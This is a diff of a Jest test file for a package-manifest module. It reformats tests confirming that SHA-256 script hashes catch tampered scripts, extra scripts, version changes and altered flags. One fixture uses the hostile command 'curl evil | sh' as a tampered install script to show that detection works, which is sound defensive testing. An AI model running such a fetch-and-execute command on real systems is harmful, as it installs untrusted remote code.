@@ -1,6 +1,11 @@
 import { buildManifest, manifestProblems, sha256Hex } from '../../../src/packages/manifest';
 
-const pkg = { name: 'firefox-esr', version: '128.1', idempotent: true, scripts: { install: 'apt-get install -y firefox-esr\n', backout: 'apt-get remove -y firefox-esr\n' } };
+const pkg = {
+  name: 'firefox-esr',
+  version: '128.1',
+  idempotent: true,
+  scripts: { install: 'apt-get install -y firefox-esr\n', backout: 'apt-get remove -y firefox-esr\n' },
+};
 
 test('the manifest names each script by SHA-256 and is stable', () => {
   const m = buildManifest(pkg);
@@ -11,8 +16,12 @@ test('the manifest names each script by SHA-256 and is stable', () => {
 
 test('a changed script, an extra script, another version or a changed promise are problems', () => {
   const m = buildManifest(pkg);
-  expect(manifestProblems({ ...pkg, scripts: { ...pkg.scripts, install: 'curl evil | sh\n' } }, m)).toEqual([expect.stringContaining("install script's SHA-256 does not match")]);
-  expect(manifestProblems({ ...pkg, scripts: { ...pkg.scripts, check: 'true' } }, m)).toEqual(['the check script is not in the signed manifest']);
+  expect(manifestProblems({ ...pkg, scripts: { ...pkg.scripts, install: 'curl evil | sh\n' } }, m)).toEqual([
+    expect.stringContaining("install script's SHA-256 does not match"),
+  ]);
+  expect(manifestProblems({ ...pkg, scripts: { ...pkg.scripts, check: 'true' } }, m)).toEqual([
+    'the check script is not in the signed manifest',
+  ]);
   expect(manifestProblems({ ...pkg, version: '129' }, m)[0]).toContain('not firefox-esr 129');
   expect(manifestProblems({ ...pkg, idempotent: false }, m)).toEqual(['the idempotent flag differs from the manifest']);
   expect(manifestProblems(pkg, '{"format":"other"}')).toEqual(['the manifest is not a valid opsdesk package manifest']);
